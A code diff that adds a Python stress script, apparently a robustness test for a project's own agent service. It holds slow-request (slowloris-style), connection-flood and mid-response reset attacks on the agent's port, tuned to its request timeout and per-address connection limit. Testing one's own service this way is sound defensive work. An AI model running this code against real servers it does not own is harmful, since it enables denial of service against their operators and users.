@@ -1,0 +1,87 @@
+"""Attacks an agent's port from another address: slow requests, floods, and resets at every moment.
+
+    attack.py HOST PORT SECONDS
+
+It prints how many connections it made. It imports nothing of this project, to run in any namespace.
+"""
+
+import random
+import socket
+import struct
+import sys
+import time
+from contextlib import suppress
+
+LIMIT = 15.0  # Seconds that the agent gives a request
+AT_ONCE = 8  # Connections that it allows an address
+REQUEST = b"GET /metrics HTTP/1.1\r\n"
+
+
+class Attack:
+    def __init__(self, address: tuple[str, int], seconds: float) -> None:
+        self._address = address
+        self._end = time.monotonic() + seconds
+        self._random = random.Random(1)  # noqa: S311 (no secret)
+        self.connections = 0
+
+    def goes_on(self) -> bool:
+        return time.monotonic() < self._end
+
+    def connect(self) -> socket.socket:
+        """Return a connection whose close is a reset."""
+        connection = socket.create_connection(self._address, timeout=5)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        self.connections += 1
+        return connection
+
+    def complete_late(self) -> None:
+        """Complete requests about when their time is over, and reset them before the answer."""
+        begun = time.monotonic()
+        held: list[socket.socket] = []
+        with suppress(OSError):
+            held = [self.connect() for _ in range(AT_ONCE)]
+        moment = begun + LIMIT + self._random.uniform(-0.02, 0.02)
+        self._send(held, REQUEST)
+        while time.monotonic() < moment - 4:
+            time.sleep(3)
+            self._send(held, b"A: b\r\n")
+        time.sleep(max(0.0, moment - time.monotonic()))
+        self._send(held, b"\r\n")
+        for connection in held:
+            connection.close()
+
+    def flood(self, count: int) -> None:
+        """Connect, send a part of a request, and reset."""
+        for _ in range(count):
+            with suppress(OSError):
+                connection = self.connect()
+                connection.sendall((REQUEST + b"\r\n")[: self._random.randrange(26)])
+                connection.close()
+
+    def leave_in_the_answer(self, count: int) -> None:
+        """Ask for the whole report, read little of it, and reset."""
+        for _ in range(count):
+            with suppress(OSError):
+                connection = self.connect()
+                connection.sendall(b"GET /api/v1/report HTTP/1.1\r\n\r\n")
+                connection.recv(self._random.randrange(1, 200))
+                connection.close()
+
+    @staticmethod
+    def _send(held: list[socket.socket], content: bytes) -> None:
+        for connection in held:
+            with suppress(OSError):
+                connection.sendall(content)
+
+
+def main(host: str, port: str, seconds: str) -> None:
+    attack = Attack((host, int(port)), float(seconds))
+    while attack.goes_on():
+        attack.flood(300)
+        attack.leave_in_the_answer(100)
+        attack.complete_late()
+    print(attack.connections, flush=True)
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
